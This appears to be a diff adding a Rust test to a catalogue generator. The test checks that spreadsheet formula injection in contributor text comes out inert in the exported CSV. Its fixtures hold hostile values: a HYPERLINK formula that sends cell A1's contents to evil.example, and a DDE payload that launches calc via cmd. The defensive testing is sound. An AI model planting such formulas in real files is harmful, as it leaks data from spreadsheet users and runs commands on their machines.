@@ -211,3 +211,41 @@ fn hostile_strings_in_valid_content_are_escaped() {
         assert!(!text.contains("<svg onload"), "{page}");
     }
 }
+
+#[test]
+fn a_formula_in_contributor_text_is_inert_in_katalog_csv() {
+    let case = GOOD_CASE
+        .replace(
+            "title: \"Suldal: grendeutval\"",
+            "title: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"Klikk\\\")\"",
+        )
+        .replace(
+            "summary: Grendeutvala knyter bygdene til kommunestyret.",
+            "summary: \"+cmd|' /C calc'!A0\"",
+        )
+        .replace("name: Kari Nordmann", "name: \"@SUM(1+1)\"")
+        .replace("title: Kommunen,", "title: \"-2+3\",");
+    let p = Project::new("csv-formula", &[("content/eksempler/suldal.md", &case)]);
+    let (code, _, stderr) = p.katalog(&["build"]);
+    assert_eq!(code, 0, "{stderr}");
+    let bytes = std::fs::read(p.output().join("katalog.csv")).unwrap();
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let header = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
+    assert_eq!(
+        cell("title"),
+        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikk\")"
+    );
+    assert_eq!(cell("summary"), "'+cmd|' /C calc'!A0");
+    assert_eq!(cell("contact_name"), "'@SUM(1+1)");
+    assert_eq!(cell("links_title"), "'-2+3");
+    // No cell a spreadsheet would evaluate; numbers stay numbers.
+    for (name, value) in header.iter().zip(row.iter()) {
+        assert!(
+            !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{name}: {value:?}"
+        );
+    }
+    assert_eq!(cell("population"), "3889");
+}
